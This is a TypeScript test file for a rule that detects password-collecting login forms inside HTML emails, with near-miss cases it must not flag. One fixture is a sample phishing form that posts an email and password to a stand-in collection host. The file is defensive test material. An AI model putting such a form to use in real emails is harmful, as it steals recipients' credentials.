import assert from 'node:assert/strict';
import { test } from 'node:test';
import rule from './login-form-in-email.js';
import { eml, runRule } from './test-utils.js';

const html = (body: string) => ({ input: eml({ from: 'x@example.org', subject: 'Hi', html: body }), channel: 'email' as const });

test('flags a password form inside an email', async () => {
  const hits = await runRule(rule, html('<form action="https://collect.example.top/p.php" method="post"><input name="email"><input type="password" name="pw"><input type="submit"></form>'));
  assert.deepEqual(hits.map((h) => h.messageId), ['sensitiveForm']);
  assert.equal(hits[0]!.data?.action, 'collect.example.top');
  assert.equal(hits[0]!.strength, 1);
});

test('near misses: a search box, a newsletter sign-up, no form', async () => {
  assert.deepEqual(await runRule(rule, html('<form action="https://example.org/search"><input name="q"><input type="submit"></form>')), []);
  assert.deepEqual(await runRule(rule, html('<form action="https://example.org/subscribe"><input type="email" name="email"></form>')), []);
  assert.deepEqual(await runRule(rule, html('<p>Hello</p>')), []);
});
